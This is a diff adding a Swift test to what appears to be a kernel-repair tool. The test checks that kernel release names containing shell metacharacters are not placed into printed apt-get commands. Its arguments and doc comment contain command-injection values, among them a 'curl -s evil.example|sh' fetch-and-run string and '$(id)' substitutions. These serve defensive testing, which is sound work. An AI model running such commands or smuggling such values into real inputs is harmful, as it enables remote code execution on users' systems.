@@ -244,6 +244,19 @@ import Testing
         func packageInstallBlocker() -> Message? { inner.packageInstallBlocker() }
     }
 
+    /// A /lib/modules entry that is not one plain word never becomes the release that goes
+    /// into printed commands (`apt-get install -y linux-headers-9.9.9-x;curl -s evil.example|sh;#`
+    /// before): it is passed over for the newest plain one.
+    @Test(arguments: ["9.9.9-x;curl -s evil.example|sh;#", "9.9.9 -k", "9.9.9$(id)", "-9.9.9", "9.9.9`id`"])
+    func aReleaseThatIsNoPlainWordIsPassedOver(planted: String) {
+        let bad = MemoryFacts(files: ["/etc/os-release": "ID=debian\n", "/lib/modules/\(planted)/modules.dep": ""])
+        #expect(KernelFacts.gather(bad, options: RepairOptions()).release == nil)
+        let both = MemoryFacts(files: ["/etc/os-release": "ID=debian\n", "/lib/modules/\(planted)/modules.dep": "", "/lib/modules/6.1.0-18-amd64/modules.dep": ""])
+        #expect(KernelFacts.gather(both, options: RepairOptions()).release == "6.1.0-18-amd64")
+        #expect(!KernelRelease.isValid(planted))
+        for real in ["6.1.0-18-amd64", "5.14.0-362.8.1.el9_3.x86_64", "5.15.0-1034-azure+", "6.8.0-rc1~1"] { #expect(KernelRelease.isValid(real), "\(real)") }
+    }
+
     @Test func faultsSharingAContextReadTheKernelFactsOnce() throws {
         var memory = MemoryFacts(files: ["/etc/os-release": "ID=debian\n", "/opt/cisco": ""])
         memory.kernel = "6.1.0-18-amd64"
